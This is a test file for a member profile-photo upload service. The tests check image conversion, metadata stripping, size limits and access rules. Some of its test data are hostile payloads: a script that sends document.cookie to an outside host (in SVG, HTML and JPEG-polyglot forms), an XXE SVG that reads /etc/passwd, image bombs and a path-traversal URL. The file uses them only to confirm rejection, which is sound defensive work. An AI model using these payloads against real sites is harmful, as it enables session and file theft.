import { randomBytes } from 'node:crypto'
import sharp from 'sharp'
import { v4 as randomId } from 'uuid'
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest'
import { expectMembersOnly } from '#testing/guards.ts'
import { aMember, type TestMember, withStatus } from '#testing/members.ts'
import { aBomb, aFile, aPicture, colourAt } from '#testing/pictures.ts'
import { startTestServer, type TestServer } from '#testing/server.ts'
import { signedIn } from '#testing/till.ts'
import { maxFileBytes, whileUploading } from '../../../../http/multipart.ts'

let app: TestServer
beforeAll(async () => {
  app = await startTestServer()
})
afterAll(() => app.close())

const upload = (member: TestMember, file: Uint8Array) => app.call('uploadUserIcon', { file }, signedIn(app, member))
const takeUp = (member: TestMember, photoId: string | null) => app.call('updateUserIcon', { photoId }, signedIn(app, member))
const pathOf = (member: TestMember, photoId: string) => `/photos/${member.memberId}/${photoId}.jpg`
const get = (path: string) => fetch(`${app.url}${path}`)

/** The photo as it is served, once it was uploaded and taken. */
async function shown(file: Uint8Array): Promise<Buffer> {
  const member = await aMember(app)
  const { result } = await upload(member, file)
  await takeUp(member, result.photoId)
  return Buffer.from(await (await get(pathOf(member, result.photoId))).arrayBuffer())
}

describe('a photo', () => {
  it.each(['jpeg', 'png', 'webp', 'gif'] as const)('may be %s and becomes a square JPEG', async (format) => {
    const image = await shown(await aFile(format, 1600, 1200))
    expect(await sharp(image).metadata()).toMatchObject({ format: 'jpeg', width: 1000, height: 1000, space: 'srgb' })
    expect(await colourAt(image, 100, 500)).toBe('red')
    expect(await colourAt(image, 900, 500)).toBe('blue')
  })

  it('of nothing but noise is no larger than others', async () => {
    const noise = sharp(randomBytes(1000 * 1000 * 3), { raw: { width: 1000, height: 1000, channels: 3 } })
    const image = await shown(await noise.jpeg({ quality: 90 }).toBuffer())
    expect(image.length).toBeLessThan(400_000)
    expect(await sharp(image).metadata()).toMatchObject({ width: 1000, height: 1000 })
  })

  it('is read once, also where its id is written in capitals, and asked for each time whether it is still shown', async () => {
    const member = await aMember(app)
    const { photoId } = (await upload(member, await aFile())).result
    await takeUp(member, photoId)
    const read = vi.spyOn(app.server.services.db, 'first')
    for (const id of [photoId, photoId.toUpperCase(), photoId]) expect((await get(pathOf(member, id))).status).toBe(200)
    const texts = read.mock.calls.map(([statement]) => JSON.stringify(statement)).filter((text) => text.includes('from photos'))
    expect(texts.map((text) => text.includes('select image'))).toEqual([true, false, false])
    read.mockRestore()
    await takeUp(member, null)
    expect((await get(pathOf(member, photoId))).status).toBe(404)
  })

  it('that is small stays small', async () => {
    expect(await sharp(await shown(await aFile('png', 300, 200))).metadata()).toMatchObject({ width: 200, height: 200 })
    expect(await sharp(await shown(await aFile('png', 2, 2))).metadata()).toMatchObject({ width: 2, height: 2 })
  })

  it('has a small copy, for where many are seen', async () => {
    const member = await aMember(app)
    const { photoId } = (await upload(member, await aFile('jpeg', 1600, 1200))).result
    const path = `${pathOf(member, photoId)}?small`
    expect((await get(path)).status).toBe(404)
    await takeUp(member, photoId)
    const response = await get(path)
    expect(response.headers.get('content-type')).toBe('image/webp')
    expect(response.headers.get('cache-control')).toBe('private, max-age=31536000, immutable')
    const small = Buffer.from(await response.arrayBuffer())
    expect(await sharp(small).metadata()).toMatchObject({ format: 'webp', width: 288, height: 288 })
    expect(await colourAt(small, 20, 144)).toBe('red')
  })

  it('stands upright, and says nothing about where it was taken', async () => {
    const exif = { IFD0: { Copyright: 'Annegret' }, IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '51/1 20/1 0/1' } }
    const turned = await aPicture(60, 60).withExif(exif).withMetadata({ orientation: 6 }).jpeg().toBuffer()
    expect((await sharp(turned).metadata()).exif).toBeDefined()
    const image = await shown(turned)
    const { exif: stored, orientation, icc, xmp } = await sharp(image).metadata()
    expect({ stored, orientation, icc, xmp }).toEqual({})
    expect(image.includes('Annegret')).toBe(false)
    expect(await colourAt(image, 30, 10)).toBe('red')
    expect(await colourAt(image, 30, 50)).toBe('blue')
  })

  it('that moves shows its first frame, one that is transparent a white ground', async () => {
    const frames = await Promise.all([aFile('png'), aPicture().flop().png().toBuffer()])
    const moving = await sharp(frames, { join: { animated: true } })
      .gif()
      .toBuffer()
    expect(await colourAt(await shown(moving), 5, 20)).toBe('red')
    const clear = await sharp({ create: { width: 9, height: 9, channels: 4, background: '#00000000' } })
      .png()
      .toBuffer()
    expect(await colourAt(await shown(clear), 4, 4)).toBe('white')
  })
})

const script = '<script>fetch("https://example.org/"+document.cookie)</script>'

describe('what is no photo is rejected', () => {
  it.each<[string, () => Buffer | Promise<Buffer>]>([
    ['an SVG with a script', () => Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">${script}</svg>`)],
    [
      'an SVG that reads files',
      () => Buffer.from('<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>'),
    ],
    ['a text that is called .jpg', () => Buffer.from('Das ist kein Bild.')],
    ['a page', () => Buffer.from(`<!doctype html>${script}`)],
    ['nothing', () => Buffer.alloc(0)],
    ['noise', () => randomBytes(5000)],
    ['a JPEG that was cut off', async () => (await aFile('jpeg', 600, 400)).subarray(0, 1500)],
    ['the first bytes of a JPEG', () => Buffer.from('ffd8ffe000104a464946', 'hex')],
    ['a PNG that was cut off', async () => (await aFile('png', 600, 400)).subarray(0, 120)],
    ['a PDF', () => Buffer.from('%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>')],
    ['a TIFF', () => aPicture().tiff().toBuffer()],
    ['an AVIF, whose grid may name a large image any number of times', () => aFile('avif')],
    ['larger than four megapixels', () => aFile('jpeg', 2002, 2000)],
    ['a bomb', () => aBomb(20_000, 20_000)],
    ['a bomb that is only wide', () => aBomb(2_000_000, 30)],
  ])('%s', async (_, file) => {
    const member = await aMember(app)
    const answer = await upload(member, await file())
    expect(answer).toMatchObject({ status: 200, errorName: 'userIconParseError' })
    const { rows } = await app.server.services.pool.query('select from photos where member_id = $1', [member.memberId])
    expect(rows).toEqual([])
  })

  // ASVS 1.3.4, 5.2.2
  it('but a photo that is a page as well is a photo only, afterwards', async () => {
    const image = await shown(Buffer.concat([await aFile(), Buffer.from(script)]))
    expect(image.includes('script')).toBe(false)
    const commented = await aFile()
    const comment = Buffer.concat([Buffer.from([0xff, 0xfe, 0, script.length + 2]), Buffer.from(script)])
    const polyglot = Buffer.concat([commented.subarray(0, 2), comment, commented.subarray(2)])
    expect((await shown(polyglot)).includes('script')).toBe(false)
  })

  // ASVS 5.2.1
  it('and neither is one of more than ten megabytes', async () => {
    const member = await aMember(app)
    const large = Buffer.concat([await aFile(), Buffer.alloc(11_000_000)])
    expect(await upload(member, large)).toMatchObject({ status: 413, errorCode: 90413, result: null })
    const allowed = Buffer.concat([await aFile(), Buffer.alloc(maxFileBytes)]).subarray(0, maxFileBytes)
    expect(await upload(member, allowed)).toMatchObject({ errorName: null })
  })
})

describe('an upload', () => {
  it('is for members only', async () => expectMembersOnly(app, 'uploadUserIcon', { file: await aFile() }))

  it('has one file and nothing else', async () => {
    const { token } = await aMember(app)
    const file = await aFile()
    const malformed = { status: 400, errorCode: 90400 }
    for (const input of [{}, { file: 'a text' }, { photo: file }, { file, __proto__: null, toString: 'x' }]) {
      expect(await app.callRaw('uploadUserIcon', input, { token }), Object.keys(input).join()).toMatchObject(malformed)
    }
    for (const extra of [
      { other: file },
      { lang: file },
      { ...Object.fromEntries(Array.from({ length: 12 }, (_, at) => [`field${at}`, 'x'])) },
    ]) {
      const { status } = await app.callRaw('uploadUserIcon', { file, ...extra }, { token })
      expect([400, 413]).toContain(status)
    }
  })

  it('comes as a form with a file', async () => {
    const { token } = await aMember(app)
    const send = (type: string, body: string) =>
      fetch(`${app.url}/uploadUserIcon.do`, { method: 'POST', headers: { authorization: `Bearer ${token}`, 'content-type': type }, body })
    for (const [type, body] of [
      ['application/json', '{"merchantId":"1001","file":"x"}'],
      ['application/x-www-form-urlencoded', 'merchantId=1001&file=x'],
      ['multipart/form-data', 'no boundary'],
      ['multipart/form-data; boundary=x', '--x\r\nContent-Disposition: form-data; name="file"; filename="a"\r\n\r\ncut off'],
      ['multipart/form-data; boundary=x', ''],
    ] as const) {
      const response = await send(type, body)
      expect({ type, status: response.status, code: ((await response.json()) as { errorCode: number }).errorCode }).toEqual({
        type,
        status: 400,
        code: 90400,
      })
    }
  })

  it('is rejected in the language that it says itself', async () => {
    const { token } = await aMember(app)
    const { errorMessage } = await app.call('uploadUserIcon', { file: Buffer.from('x') }, { token, lang: 'en_US' })
    expect(errorMessage).toBe('We can’t open this picture. Please choose another photo.')
  })

  it('is the only call that takes such a form', async () => {
    const { token } = await aMember(app)
    const body = new FormData()
    body.append('merchantId', '1001')
    const response = await fetch(`${app.url}/logout.do`, { method: 'POST', headers: { authorization: `Bearer ${token}` }, body })
    expect({ status: response.status, ...((await response.json()) as object) }).toMatchObject({ status: 400, errorCode: 90400 })
  })

  it('is told to come again while 32 others are at it', async () => {
    const done = Promise.withResolvers<void>()
    const others = Array.from({ length: 32 }, () => whileUploading(() => done.promise))
    await expect(whileUploading(async () => 'in')).rejects.toMatchObject({ errorName: 'tooManyRequests' })
    done.resolve()
    await Promise.all(others)
    expect(await whileUploading(async () => 'in')).toBe('in')
  })
})

describe('the photo of a profile', () => {
  it('is for members only', () => expectMembersOnly(app, 'updateUserIcon', { photoId: null }))

  it('is seen once it was taken, kept by browsers for good, and gone when another one took its place', async () => {
    const member = await aMember(app)
    const first = (await upload(member, await aFile())).result.photoId
    expect((await get(pathOf(member, first))).status).toBe(404)

    const taken = await takeUp(member, first)
    expect(taken.result.photo).toBe(pathOf(member, first))
    expect((await app.call('getUserProfile', {}, { token: member.token })).result.photo).toBe(pathOf(member, first))
    const response = await get(pathOf(member, first))
    expect({ status: response.status, ...Object.fromEntries(response.headers) }).toMatchObject({
      status: 200,
      'content-type': 'image/jpeg',
      'cache-control': 'private, max-age=31536000, immutable',
      'x-content-type-options': 'nosniff',
      'cross-origin-resource-policy': 'cross-origin',
      'content-security-policy': "default-src 'none'; base-uri 'none'; frame-ancestors 'none'",
    })

    const second = (await upload(member, await aFile('png'))).result.photoId
    await takeUp(member, second)
    expect((await get(pathOf(member, first))).status).toBe(404)
    expect((await get(pathOf(member, second))).status).toBe(200)
    expect(await takeUp(member, second)).toMatchObject({ errorName: null })

    expect((await takeUp(member, null)).result.photo).toBeNull()
    expect((await get(pathOf(member, second))).status).toBe(404)
    expect(await takeUp(member, second)).toMatchObject({ errorName: 'userIconParseError' })
  })

  // ASVS 5.3.2
  it('is not somebody else’s, nor one that never was', async () => {
    const [mine, yours] = [await aMember(app), await aMember(app)]
    const { photoId } = (await upload(yours, await aFile())).result
    for (const strange of [photoId, randomId(), 'photo', '0']) {
      expect(await takeUp(mine, strange)).toMatchObject({ status: 200, errorName: 'userIconParseError' })
    }
    await takeUp(yours, photoId)
    expect((await get(pathOf(mine, photoId))).status).toBe(404)
    for (const path of ['/photos/x/y.jpg', `/photos/${yours.memberId}/${photoId}`, `/photos/${yours.memberId}/..%2f${photoId}.jpg`]) {
      expect((await get(path)).status).toBe(404)
    }
  })

  it('says when the account is gone', async () => {
    const member = await aMember(app)
    await withStatus(app, member.memberId, 'deleted')
    expect(await takeUp(member, null)).toMatchObject({ errorName: 'userNotFound' })
  })

  it('is one, also when several are taken at once', async () => {
    const member = await aMember(app)
    const ids: string[] = []
    for (const format of ['jpeg', 'png', 'webp'] as const) ids.push((await upload(member, await aFile(format))).result.photoId)
    await Promise.all(ids.map((photoId) => takeUp(member, photoId)))
    const { rows } = await app.server.services.pool.query('select photo_id from photos where member_id = $1 and in_use', [member.memberId])
    const { photo } = (await app.call('getUserProfile', {}, { token: member.token })).result
    expect(rows.map((row) => pathOf(member, row.photo_id))).toEqual([photo])
  })

  it('is chosen among the last uploads, which are forgotten after a day', async () => {
    const member = await aMember(app)
    const photoIds: string[] = []
    for (let count = 0; count < 5; count++) {
      app.clock.pass({ seconds: 1 })
      photoIds.push((await upload(member, await aFile())).result.photoId)
    }
    expect(await takeUp(member, photoIds[0] ?? '')).toMatchObject({ errorName: 'userIconParseError' })
    expect(await takeUp(member, photoIds[4] ?? '')).toMatchObject({ errorName: null })
    app.clock.pass({ hours: 24, seconds: 1 })
    await app.server.services.pool.query(`select graphile_worker.add_job('purgeOldRows', '{}')`)
    await app.runJobs()
    const { rows } = await app.server.services.pool.query('select photo_id from photos where member_id = $1', [member.memberId])
    expect(rows).toEqual([{ photo_id: photoIds[4] }])
  })
})
